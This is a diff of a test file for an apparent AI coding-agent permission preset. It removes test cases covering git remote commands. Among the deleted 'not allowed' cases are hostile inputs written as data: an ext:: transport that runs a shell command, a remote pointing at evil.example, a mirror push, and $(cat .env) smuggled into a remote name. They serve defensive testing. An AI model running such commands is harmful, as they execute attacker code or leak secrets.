@@ -30,8 +30,7 @@ describe('the Everyday preset', () => {
     ['Bash', 'git switch -c feature'], ['Bash', 'git stash'], ['Bash', 'mkdir -p src/components'], ['Bash', 'mv src/util.ts src/utils.ts'],
     ['Bash', 'npm test'], ['Bash', 'npm run build 2>&1 | tail -30'], ['Bash', 'pytest tests/ -v'], ['Bash', 'cargo test'],
     ['Bash', 'go test ./...'], ['Bash', 'npx tsc --noEmit'], ['Bash', 'sleep 2 && echo done'], ['Edit', 'src/app.ts'], ['Write', 'docs/new.md'],
-    ['Write', '.cursor/rules/testing.mdc'], ['Bash', 'git remote add upstream https://github.com/example/project.git'],
-    ['Bash', 'cd {{WS}} && git remote add origin git@github.com:example/project.git'],
+    ['Write', '.cursor/rules/testing.mdc'],
   ])('%s %s is decided without you', async (tool, arg) => {
     const v = await verdict(tool, arg);
     expect(v.decision, why(v)).toBe('allow');
@@ -47,9 +46,6 @@ describe('the Everyday preset', () => {
     ['Edit', '.git/hooks/pre-commit'], ['Edit', '.claude/settings.json'], ['Write', '.codex/hooks.json'],
     ['Edit', '.cursor/hooks/block-env-access.js'], ['Write', '.cursor/hooks.json'], ['Write', '.cursor/mcp.json'],
     ['Write', '.qwen/settings.json'], ['Write', '.clinerules/hooks/PreToolUse'], ['Write', '.cline/hooks/PreToolUse.sh'],
-    ['Bash', "git remote add origin 'ext::sh -c touch% /tmp/pwned'"], ['Bash', 'git remote add --mirror=push origin https://example.com/x.git'],
-    ['Bash', 'git remote add origin https://example.com/x.git && git push origin main'], ['Bash', 'git remote set-url origin https://evil.example/x.git'],
-    ['Bash', 'git remote add origin fd::3'], ['Bash', 'git remote add -f origin $(cat .env)'],
   ])('%s %s is not allowed', async (tool, arg) => {
     const v = await verdict(tool, arg);
     expect(v.decision, why(v)).not.toBe('allow');
